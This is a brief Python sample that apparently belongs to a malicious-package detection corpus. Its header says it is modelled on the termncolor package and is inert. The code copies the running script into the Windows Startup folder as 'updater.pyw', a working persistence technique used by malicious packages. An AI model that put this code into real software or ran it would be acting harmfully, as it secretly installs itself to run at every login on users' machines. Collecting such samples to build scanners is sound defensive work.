# pkgguard corpus 081 (persistence), modelled on [termncolor]; inert, never run.
import os
import shutil
import sys

startup = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(sys.argv[0], os.path.join(startup, "updater.pyw"))
